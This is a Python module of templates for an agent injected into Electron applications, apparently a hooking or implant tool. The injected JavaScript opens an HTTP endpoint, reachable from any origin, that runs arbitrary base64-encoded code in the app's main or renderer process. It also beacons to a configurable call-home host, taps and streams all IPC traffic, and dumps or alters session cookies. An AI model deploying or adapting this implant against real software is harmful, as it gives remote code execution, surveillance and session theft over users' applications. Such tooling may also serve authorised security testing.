"""
In-Target Agent Sources

JavaScript that runs inside a hooked Electron application, kept as Python
string constants and rendered with `{{ KEY }}` placeholders:

- HOOK_AGENT_TEMPLATE: prepended to the entry script. Serves the RCE
  protocol (GET /info, POST /console, GET /result/:jobId) and calls home.
- IPC_MONITOR_TEMPLATE: delivered later as a main-context job. Taps
  ipcMain and streams traffic over a hand-framed WebSocket.
- Cookie snippets: main-context job bodies against session.defaultSession.
- PYTHON_MONITOR_BOOTSTRAP: primary-context job body that starts
  core.traffic_monitor inside a Python-hosted target.
"""

import json
import re
from typing import Any, Dict, Optional

from shared.constants import (
    AGENT_TOOL_VERSION,
    CALL_HOME_INTERVAL_MS,
    DEFAULT_CONTROL_PORT_BASE,
    DEFAULT_REGISTRY_PORT,
    JOB_TIMEOUT_MS,
)

PLACEHOLDER = re.compile(r"\{\{\s*([A-Z_]+)\s*\}\}")


def render_template(template: str, values: Dict[str, Any]) -> str:
    """Substitute `{{ KEY }}` placeholders; unknown keys are left in place"""

    def replace(match: "re.Match[str]") -> str:
        key = match.group(1)
        if key not in values:
            return match.group(0)
        value = values[key]
        if isinstance(value, bool):
            return "true" if value else "false"
        return str(value)

    return PLACEHOLDER.sub(replace, template)


def default_hook_values(
    app_uuid: str,
    debug_port: int = DEFAULT_CONTROL_PORT_BASE,
    debug_host: str = "127.0.0.1",
    call_home_host: str = "127.0.0.1",
    call_home_port: int = DEFAULT_REGISTRY_PORT,
    call_home_interval: int = CALL_HOME_INTERVAL_MS,
    job_timeout: int = JOB_TIMEOUT_MS,
    enable_call_home: bool = True,
) -> Dict[str, Any]:
    return {
        "APP_UUID": app_uuid,
        "DEBUG_PORT": debug_port,
        "DEBUG_HOST": debug_host,
        "CALL_HOME_HOST": call_home_host,
        "CALL_HOME_PORT": call_home_port,
        "CALL_HOME_INTERVAL": call_home_interval,
        "JOB_TIMEOUT": job_timeout,
        "ENABLE_CALL_HOME": enable_call_home,
    }


HOOK_AGENT_TEMPLATE = r"""
;(function asarhookAgent() {
  const { app, BrowserWindow } = require('electron');
  const http = require('http');
  const crypto = require('crypto');

  const CONFIG = {
    appUuid: '{{ APP_UUID }}',
    port: {{ DEBUG_PORT }},
    host: '{{ DEBUG_HOST }}',
    callHomeHost: '{{ CALL_HOME_HOST }}',
    callHomePort: {{ CALL_HOME_PORT }},
    callHomeInterval: {{ CALL_HOME_INTERVAL }},
    jobTimeout: {{ JOB_TIMEOUT }},
    enableCallHome: {{ ENABLE_CALL_HOME }},
    maxJobs: 1000,
    maxJobAge: 5 * 60 * 1000
  };
  const TOOL_VERSION = '__TOOL_VERSION__';
  const startTime = new Date().toISOString();

  const jobs = new Map();

  function createJob(code, target) {
    if (jobs.size >= CONFIG.maxJobs) {
      const oldest = jobs.keys().next().value;
      dropJob(oldest);
    }
    const id = crypto.randomBytes(8).toString('hex');
    const job = {
      id: id, code: code, process: target, status: 'pending',
      created: Date.now(), completed: null,
      result: null, error: null, stack: null, windowId: null, timer: null
    };
    job.timer = setTimeout(function () {
      finishJob(id, { status: 'timeout', error: 'Job execution timed out' });
    }, CONFIG.jobTimeout);
    jobs.set(id, job);
    return job;
  }

  function finishJob(id, outcome) {
    const job = jobs.get(id);
    if (!job || job.status !== 'pending') return;
    if (job.timer) { clearTimeout(job.timer); job.timer = null; }
    Object.assign(job, outcome, { completed: Date.now() });
  }

  function dropJob(id) {
    const job = jobs.get(id);
    if (job && job.timer) clearTimeout(job.timer);
    jobs.delete(id);
  }

  function takeJob(id) {
    const job = jobs.get(id);
    if (!job) return null;
    dropJob(id);
    return {
      jobId: job.id, status: job.status, process: job.process,
      created: job.created, completed: job.completed,
      result: job.result, error: job.error, stack: job.stack, windowId: job.windowId
    };
  }

  setInterval(function () {
    const cutoff = Date.now() - CONFIG.maxJobAge;
    for (const [id, job] of jobs) {
      if (job.created < cutoff) dropJob(id);
    }
  }, 60 * 1000).unref();

  const executors = {
    main: async function (code, id) {
      try {
        const scope = {
          app: app, BrowserWindow: BrowserWindow,
          windows: BrowserWindow.getAllWindows(),
          versions: process.versions, platform: process.platform
        };
        const body = new Function('scope', 'require',
          'return (async function () {' +
          ' const { app, BrowserWindow, windows, versions, platform } = scope;\n' +
          code + '\n})();');
        const result = await body(scope, require);
        finishJob(id, { status: 'completed', result: result });
      } catch (err) {
        finishJob(id, { status: 'error', error: err && err.message, stack: err && err.stack });
      }
    },

    renderer: async function (code, id) {
      try {
        const windows = BrowserWindow.getAllWindows();
        const win = windows.find(function (w) { return w.isFocused(); }) || windows[0];
        if (!win || !win.webContents) {
          throw new Error('No active window with webContents available');
        }
        const wrapped = '(async function () { try { return await (async function () {\n' +
          code + '\n})(); } catch (e) {' +
          ' return { __error: true, message: e && e.message, name: e && e.name, stack: e && e.stack }; } })()';
        const result = await win.webContents.executeJavaScript(wrapped);
        if (result && result.__error) {
          const err = new Error('Renderer error: ' + result.message);
          err.stack = result.stack;
          throw err;
        }
        finishJob(id, { status: 'completed', result: result, windowId: win.id });
      } catch (err) {
        finishJob(id, { status: 'error', error: err && err.message, stack: err && err.stack });
      }
    }
  };

  function appInfo() {
    const windows = BrowserWindow.getAllWindows();
    return {
      app: {
        name: app.getName(), version: app.getVersion(), isPackaged: app.isPackaged,
        appPath: app.getAppPath(), userDataPath: app.getPath('userData')
      },
      system: {
        platform: process.platform, arch: process.arch, versions: process.versions,
        pid: process.pid, uptime: process.uptime()
      },
      windows: windows.map(function (w) {
        return {
          id: w.id, title: w.getTitle(), url: w.webContents ? w.webContents.getURL() : null,
          visible: w.isVisible(), focused: w.isFocused(), bounds: w.getBounds()
        };
      }),
      debug: { activeJobs: jobs.size, toolVersion: TOOL_VERSION, startTime: startTime }
    };
  }

  function send(res, status, body) {
    res.writeHead(status, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify(body));
  }

  function readBody(req) {
    return new Promise(function (resolve, reject) {
      let data = '';
      req.on('data', function (chunk) { data += chunk; });
      req.on('end', function () { resolve(data); });
      req.on('error', reject);
    });
  }

  const server = http.createServer(async function (req, res) {
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Access-Control-Allow-Methods', 'GET, POST, OPTIONS');
    res.setHeader('Access-Control-Allow-Headers', 'Content-Type');
    if (req.method === 'OPTIONS') { res.writeHead(200); res.end(); return; }

    try {
      if (req.method === 'GET' && req.url === '/info') {
        return send(res, 200, appInfo());
      }

      if (req.method === 'POST' && req.url === '/console') {
        let payload;
        try { payload = JSON.parse(await readBody(req)); } catch (e) {
          return send(res, 400, { error: 'Invalid JSON body' });
        }
        if (!payload || !payload.data || !payload.process) {
          return send(res, 400, { error: 'Missing required fields: data, process' });
        }
        if (payload.process !== 'main' && payload.process !== 'renderer') {
          return send(res, 400, { error: 'Process must be "main" or "renderer"' });
        }
        let code;
        try {
          code = Buffer.from(payload.data, 'base64').toString('utf8');
        } catch (e) {
          return send(res, 400, { error: 'Invalid base64 data: ' + e.message });
        }
        const job = createJob(code, payload.process);
        setImmediate(function () { executors[payload.process](code, job.id); });
        return send(res, 200, { jobId: job.id, status: 'pending', process: payload.process });
      }

      const match = req.method === 'GET' && /^\/result\/([a-f0-9]+)$/.exec(req.url);
      if (match) {
        const job = takeJob(match[1]);
        if (!job) return send(res, 404, { error: 'Job not found or already retrieved' });
        return send(res, 200, job);
      }

      send(res, 404, {
        error: 'Not found',
        availableRoutes: ['GET /info', 'POST /console', 'GET /result/:jobId']
      });
    } catch (err) {
      send(res, 500, { error: err.message });
    }
  });

  function callHome() {
    const body = JSON.stringify({
      app_name: app.getName(), uuid: CONFIG.appUuid, timestamp: Date.now(),
      active_jobs: jobs.size, port: CONFIG.port, ip: CONFIG.host
    });
    const req = http.request({
      host: CONFIG.callHomeHost, port: CONFIG.callHomePort, path: '/call-home', method: 'POST',
      headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) }
    });
    req.on('error', function () {});
    req.setTimeout(5000, function () { req.destroy(); });
    req.end(body);
  }

  app.whenReady().then(function () {
    server.listen(CONFIG.port, CONFIG.host);
    if (CONFIG.enableCallHome) {
      setTimeout(callHome, 5000);
      setInterval(callHome, CONFIG.callHomeInterval).unref();
    }
  });
})();
""".replace("__TOOL_VERSION__", AGENT_TOOL_VERSION)


IPC_MONITOR_TEMPLATE = r"""
const { ipcMain } = require('electron');
const net = require('net');
const crypto = require('crypto');

if (global.__asarhookMonitor) {
  try { global.__asarhookMonitor.stop(); } catch (e) {}
}

const PORT = {{ MONITOR_PORT }};
const HOST = '{{ MONITOR_HOST }}';
const GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11';

const traffic = [];
const clients = new Map();
let sequence = 0;

function serialize(value, depth) {
  depth = depth || 0;
  if (depth > 3) return '[Max Depth Reached]';
  try {
    if (value === null) return { type: 'null', value: null };
    if (value === undefined) return { type: 'undefined', value: null };
    if (typeof value === 'function') return { type: 'function', value: '[Function: ' + (value.name || 'anonymous') + ']' };
    if (typeof value === 'string') {
      return { type: 'string', value: value.length > 500 ? value.slice(0, 500) + '...' : value, truncated: value.length > 500 };
    }
    if (typeof value === 'number' || typeof value === 'boolean') return { type: typeof value, value: value };
    if (value instanceof Error) {
      return { type: 'error', value: { name: value.name, message: value.message,
               stack: (value.stack || '').split('\n').slice(0, 10).join('\n') } };
    }
    if (typeof value !== 'object') return { type: typeof value, value: String(value) };
    if (Array.isArray(value)) {
      const items = value.slice(0, 10).map(function (v) { return serialize(v, depth + 1); });
      if (value.length > 10) items.push('[' + (value.length - 10) + ' more items...]');
      return { type: 'array', value: items, length: value.length };
    }
    if (value.constructor && value.constructor.name !== 'Object') {
      return { type: 'object', constructor: value.constructor.name, value: '[' + value.constructor.name + ' instance]' };
    }
    const keys = Object.keys(value);
    const out = {};
    keys.slice(0, 20).forEach(function (k) { out[k] = serialize(value[k], depth + 1); });
    const result = { type: 'object', value: out };
    if (keys.length > 20) { result.truncated = true; result.totalKeys = keys.length; }
    return result;
  } catch (e) {
    return { type: 'error', value: '[Serialization Error: ' + e.message + ']' };
  }
}

function serializeArgs(args) {
  return args.map(function (a) { return serialize(a, 0); });
}

function frame(text) {
  const payload = Buffer.from(text, 'utf8');
  let head;
  if (payload.length < 126) {
    head = Buffer.from([0x81, payload.length]);
  } else if (payload.length < 65536) {
    head = Buffer.alloc(4); head[0] = 0x81; head[1] = 0x7e; head.writeUInt16BE(payload.length, 2);
  } else {
    head = Buffer.alloc(10); head[0] = 0x81; head[1] = 0x7f;
    head.writeUInt32BE(0, 2); head.writeUInt32BE(payload.length, 6);
  }
  return Buffer.concat([head, payload]);
}

function sendTo(socket, message) {
  try { socket.write(frame(JSON.stringify(message))); } catch (e) {}
}

function broadcast(message) {
  for (const [socket] of clients) sendTo(socket, message);
}

function record(entry) {
  entry.id = ++sequence;
  entry.timestamp = Date.now();
  traffic.push(entry);
  if (traffic.length > 2000) traffic.splice(0, traffic.length - 1500);
  broadcast({ type: 'ipc-message', data: entry, timestamp: new Date().toISOString() });
  return entry;
}

function senderOf(event) {
  try { return { id: event.sender.id, url: event.sender.getURL() }; } catch (e) { return null; }
}

const originalOn = ipcMain.on.bind(ipcMain);
const originalHandle = ipcMain.handle.bind(ipcMain);

ipcMain.on = function (channel, listener) {
  return originalOn(channel, function (event) {
    const args = Array.prototype.slice.call(arguments, 1);
    const started = Date.now();
    const seen = record({ type: 'ipc_on', channel: channel, args: serializeArgs(args), sender: senderOf(event) });
    try {
      const result = listener.apply(this, arguments);
      record({ type: 'ipc_on_complete', channel: channel, ref: seen.id,
               returnValue: serialize(event.returnValue), duration: Date.now() - started });
      return result;
    } catch (err) {
      record({ type: 'ipc_on_error', channel: channel, ref: seen.id, error: serialize(err), duration: Date.now() - started });
      throw err;
    }
  });
};

ipcMain.handle = function (channel, handler) {
  return originalHandle(channel, async function (event) {
    const args = Array.prototype.slice.call(arguments, 1);
    const requestId = crypto.randomBytes(4).toString('hex');
    const started = Date.now();
    record({ type: 'ipc_handle', channel: channel, requestId: requestId, args: serializeArgs(args), sender: senderOf(event) });
    try {
      const result = await handler.apply(this, arguments);
      record({ type: 'ipc_result', channel: channel, requestId: requestId, result: serialize(result), duration: Date.now() - started });
      return result;
    } catch (err) {
      record({ type: 'ipc_handle_error', channel: channel, requestId: requestId, error: serialize(err), duration: Date.now() - started });
      throw err;
    }
  });
};

const server = net.createServer(function (socket) {
  let upgraded = false;
  socket.on('data', function (buf) {
    if (!upgraded) {
      const text = buf.toString('utf8');
      const key = /Sec-WebSocket-Key:\s*(.+)\r\n/i.exec(text);
      if (!key) { socket.end('HTTP/1.1 400 Bad Request\r\n\r\n'); return; }
      const accept = crypto.createHash('sha1').update(key[1].trim() + GUID).digest('base64');
      socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
                   'Sec-WebSocket-Accept: ' + accept + '\r\n\r\n');
      upgraded = true;
      const clientId = crypto.randomBytes(4).toString('hex');
      clients.set(socket, { id: clientId, lastPing: Date.now() });
      sendTo(socket, { type: 'connection', clientId: clientId, status: 'connected' });
      sendTo(socket, { type: 'ipc-traffic', data: traffic.slice(-100), total: traffic.length });
      return;
    }
    if (buf[0] === 0x89) {
      const state = clients.get(socket);
      if (state) state.lastPing = Date.now();
      socket.write(Buffer.from([0x8a, 0x00]));
    } else if (buf[0] === 0x88) {
      socket.end();
    }
  });
  socket.on('close', function () { clients.delete(socket); });
  socket.on('error', function () { clients.delete(socket); });
});

const reaper = setInterval(function () {
  const cutoff = Date.now() - 60000;
  for (const [socket, state] of clients) {
    if (state.lastPing < cutoff) { clients.delete(socket); socket.destroy(); }
  }
}, 30000);

server.listen(PORT, HOST);

global.__asarhookMonitor = {
  status: function () {
    return { running: server.listening, port: PORT, clients: clients.size, traffic: traffic.length };
  },
  clear: function () { traffic.length = 0; return { cleared: true }; },
  stop: function () {
    clearInterval(reaper);
    ipcMain.on = originalOn;
    ipcMain.handle = originalHandle;
    for (const [socket] of clients) socket.destroy();
    clients.clear();
    server.close();
    return { stopped: true };
  }
};

return { started: true, port: PORT };
"""

MONITOR_CONTROL_SNIPPET = r"""
const monitor = global.__asarhookMonitor;
if (!monitor) return { running: false, error: 'Monitor not deployed' };
return monitor.{{ ACTION }}();
"""

GET_COOKIES_SNIPPET = r"""
const { session } = require('electron');
return await session.defaultSession.cookies.get({});
"""

SET_COOKIE_SNIPPET = r"""
const { session } = require('electron');
await session.defaultSession.cookies.set({{ COOKIE }});
return { success: true };
"""

REMOVE_COOKIE_SNIPPET = r"""
const { session } = require('electron');
await session.defaultSession.cookies.remove({{ URL }}, {{ NAME }});
return { success: true };
"""


PYTHON_MONITOR_BOOTSTRAP = r"""
from core.traffic_monitor import TrafficMonitorAgent
previous = getattr(agent, "traffic_monitor", None)
if previous is not None:
    await previous.stop()
monitor = TrafficMonitorAgent(bus=bus, host={{ MONITOR_HOST }}, port={{ MONITOR_PORT }})
await monitor.start()
agent.traffic_monitor = monitor
return {"started": True, "port": monitor.port}
"""

PYTHON_MONITOR_CONTROL = r"""
monitor = getattr(agent, "traffic_monitor", None)
if monitor is None:
    return {"running": False, "error": "Monitor not deployed"}
result = monitor.{{ ACTION }}()
if hasattr(result, "__await__"):
    result = await result
return result
"""


def render_monitor(port: int, host: str = "127.0.0.1", flavor: str = "electron") -> str:
    if flavor == "python":
        return render_template(PYTHON_MONITOR_BOOTSTRAP, {"MONITOR_PORT": port, "MONITOR_HOST": repr(host)})
    return render_template(IPC_MONITOR_TEMPLATE, {"MONITOR_PORT": port, "MONITOR_HOST": host})


def render_monitor_control(action: str, flavor: str = "electron") -> str:
    if action not in ("status", "stop", "clear"):
        raise ValueError(f"Unknown monitor action: {action}")
    template = PYTHON_MONITOR_CONTROL if flavor == "python" else MONITOR_CONTROL_SNIPPET
    return render_template(template, {"ACTION": action})


def render_set_cookie(cookie: Dict[str, Any]) -> str:
    return render_template(SET_COOKIE_SNIPPET, {"COOKIE": json.dumps(cookie)})


def render_remove_cookie(url: str, name: str) -> str:
    return render_template(REMOVE_COOKIE_SNIPPET, {"URL": json.dumps(url), "NAME": json.dumps(name)})


def render_hook_agent(app_uuid: str, overrides: Optional[Dict[str, Any]] = None) -> str:
    values = default_hook_values(app_uuid)
    values.update(overrides or {})
    return render_template(HOOK_AGENT_TEMPLATE, values)
